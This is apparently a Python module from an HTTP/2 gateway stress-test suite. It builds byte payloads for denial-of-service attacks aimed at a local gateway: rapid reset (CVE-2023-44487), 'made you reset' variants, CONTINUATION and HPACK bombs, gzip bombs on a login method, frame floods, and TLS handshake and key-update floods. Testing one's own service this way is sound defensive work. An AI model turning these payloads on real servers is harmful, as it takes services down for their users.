"""What each attacker sends: the opening of a connection, and units that are sent on it one after the other, as bytes made beforehand."""

from __future__ import annotations

import gzip
import ssl
import struct
from dataclasses import dataclass, replace
from functools import cache
from typing import Callable

from floods import frames as h2

ECHO = "/cairn.bench.v1.BenchService/Echo"
COUNT = "/cairn.bench.v1.BenchService/Count"
LOG_IN = "/cairn.auth.v1.SessionService/LogInWithPassword"
WHO_AM_I = "/cairn.auth.v1.AccountService/WhoAmI"
ECHO_BLOCK = h2.request_block(ECHO)
ECHO_MESSAGE = b"\x0a\x05hello"


@dataclass(frozen=True)
class Attack:
    """`unit(n)` is the n-th thing sent on a connection; after `units` of them, or when the gateway ends it, the next connection begins."""

    unit: Callable[[int], bytes]
    units: int
    opening: Callable[[], bytes] = h2.start
    # Leaves as soon as the gateway has answered.
    leaves: bool = False
    # At most so many units a second; nothing is as fast as it goes.
    pace: float = float("inf")
    port: str = "GATEWAY"
    # How many addresses of loopback its connections come from in turn; 1: the one everybody has.
    addresses: int = 1
    # Each connection shakes hands first, and sends its bytes inside TLS; `key_updates` of them before.
    is_encrypted: bool = False
    key_updates: int = 0

    def blob(self) -> bytes:
        return b"".join(self.unit(number) for number in range(self.units))


def stream_of(number: int) -> int:
    return 2 * number + 1


def header_blocks(block: bytes) -> Callable[[int], bytes]:
    """A request of this header block, over HEADERS and as many CONTINUATION as it takes."""

    def unit(number: int) -> bytes:
        pieces = [block[at : at + h2.FRAME_BYTES_MAX] for at in range(0, len(block), h2.FRAME_BYTES_MAX)]
        out = b""
        for index, piece in enumerate(pieces):
            kind = h2.CONTINUATION if index else h2.HEADERS
            flags = (0 if index else h2.END_STREAM) | (h2.END_HEADERS if index == len(pieces) - 1 else 0)
            out += h2.frame(kind, flags, stream_of(number), piece)
        return out

    return unit


def echo(number: int, body: bytes = ECHO_MESSAGE, **fields: str) -> bytes:
    return h2.request(stream_of(number), h2.request_block(ECHO, **fields) if fields else ECHO_BLOCK, body)


def open_stream(path: str = ECHO, **fields: str) -> bytes:
    """The opening of a connection on which stream 1 waits for its body."""
    return h2.start() + h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.request_block(path, **fields))


def hpack_bomb(references: int) -> bytes:
    """An entry of 4,000 bytes enters the table, which holds 4,096, and is then named again and again, a byte each."""
    return h2.request_block(ECHO) + h2.indexed_literal("a", b"x" * 3_900) + b"\xbe" * references


@cache
def client_hello() -> bytes:
    """The first bytes of a TLS client, the same every time: they cost the attacker nothing, and the gateway a signature."""
    arriving, leaving = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    client = context.wrap_bio(arriving, leaving, server_hostname="localhost")
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return leaving.read()


def gzip_bomb(path: str) -> Callable[[int], bytes]:
    bomb = gzip.compress(bytes(4_000_000))
    block = h2.request_block(path, content_encoding="gzip")
    assert len(bomb) < 8_192, "the smallest request limit of a public method"
    return lambda number: h2.request(stream_of(number), block, bomb)


ATTACKS: dict[str, Attack] = {
    # Streams that are opened and cancelled at once (CVE-2023-44487); whole requests, so that the gateway has begun its work.
    "rapid reset": Attack(lambda n: echo(n) + h2.rst(stream_of(n)), 400),
    # As many as a connection may, then the next connection: never ended, all the work done.
    "rapid reset within the limit": Attack(lambda n: echo(n) + h2.rst(stream_of(n)), 190),
    # The same work, but it is our side that is made to reset (CVE-2025-8671).
    "made you reset: window overflow": Attack(
        lambda n: h2.frame(h2.HEADERS, h2.END_HEADERS, stream_of(n), ECHO_BLOCK) + h2.window_update(stream_of(n), 0x7FFFFFFF), 400
    ),
    "made you reset: zero increment": Attack(
        lambda n: h2.frame(h2.HEADERS, h2.END_HEADERS, stream_of(n), ECHO_BLOCK) + h2.window_update(stream_of(n), 0), 10
    ),
    "made you reset: DATA after the end": Attack(
        lambda n: echo(n, delay_ms="0") + h2.frame(h2.DATA, 0, stream_of(n), b"more"), 400
    ),
    "made you reset: lying content-length": Attack(lambda n: echo(n, content_length="1000000"), 400),
    "made you reset: malformed headers": Attack(
        lambda n: h2.request(stream_of(n), ECHO_BLOCK + h2.literal("Upper", "x"), b""), 240
    ),
    "CONTINUATION": Attack(
        lambda n: h2.frame(h2.CONTINUATION, 0, 1, h2.literal("a", "b")), 4_000, lambda: h2.start() + h2.frame(h2.HEADERS, 0, 1, ECHO_BLOCK)
    ),
    "HPACK bomb": Attack(header_blocks(hpack_bomb(16_000)), 4),
    # As large as a list may get before the connection is ended, of the smallest fields: each is answered 431.
    "small HPACK references": Attack(header_blocks(ECHO_BLOCK + h2.indexed_literal("a", "") + b"\xbe" * 7_000), 200),
    "large header lists": Attack(header_blocks(ECHO_BLOCK + h2.literal("a", "x" * 20_000)), 200),
    "SETTINGS": Attack(lambda n: h2.settings(initial_window_size=65_535 + n % 2), 4_000),
    "PING": Attack(lambda n: h2.frame(h2.PING, payload=bytes(8)), 4_000),
    "empty DATA": Attack(lambda n: h2.frame(h2.DATA, 0, 1), 4_000, open_stream),
    "DATA of padding": Attack(lambda n: h2.frame(h2.DATA, h2.PADDED, 1, b"\xff" + bytes(255)), 400, open_stream),
    "PRIORITY": Attack(lambda n: h2.frame(h2.PRIORITY, 0, 1, struct.pack(">IB", 0, 1)), 4_000),
    "WINDOW_UPDATE": Attack(lambda n: h2.window_update(0, 1), 8_000),
    "unknown frames": Attack(lambda n: h2.frame(0xFA, 0, 1, b"xx"), 4_000),
    "oversized frames": Attack(lambda n: struct.pack(">I", h2.FRAME_BYTES_MAX + 1)[1:] + b"\x00\x00" + struct.pack(">I", 1), 4),
    "too many streams": Attack(lambda n: h2.frame(h2.HEADERS, h2.END_HEADERS, stream_of(n), ECHO_BLOCK), 400),
    # 4 MB in 4 kB. As many as the auth service can unpack to its limit are whole requests that it must work on; how many of those one
    # address may send is for the limits of requests. What is shown here is that each is worth no more than another request.
    "gzip bombs": Attack(gzip_bomb(LOG_IN), 20, pace=2_000),
    # Refused from their headers (nobody has logged in), with the body still coming.
    "refused with the body still coming": Attack(
        lambda n: h2.frame(h2.DATA, 0, 1, bytes(16_384)), 60, lambda: open_stream(WHO_AM_I, content_length="100000000")
    ),
    "connections": Attack(lambda n: b"", 1),
    "TLS handshakes": Attack(lambda n: client_hello(), 1, lambda: b"", leaves=True, port="TLS"),
    "TLS handshakes from many addresses": Attack(lambda n: client_hello(), 1, lambda: b"", leaves=True, port="TLS", addresses=60_000),
    # To their end, with which the attacker has as much work as the gateway.
    "whole TLS handshakes": Attack(lambda n: h2.frame(h2.PING, payload=bytes(8)), 1, port="TLS", is_encrypted=True),
}

# The same inside TLS, for those that are cheap to send: one record holds a thousand frames.
INSIDE_TLS = ["rapid reset", "CONTINUATION", "SETTINGS", "PING", "empty DATA"]
ATTACKS |= {f"{name} inside TLS": replace(ATTACKS[name], port="TLS", is_encrypted=True) for name in INSIDE_TLS}
# Keys renewed again and again (RFC 8446 §4.6.3), then a PING that nobody should live to see.
ATTACKS["key updates"] = Attack(lambda n: h2.frame(h2.PING, payload=bytes(8)), 1, port="TLS", is_encrypted=True, key_updates=400)
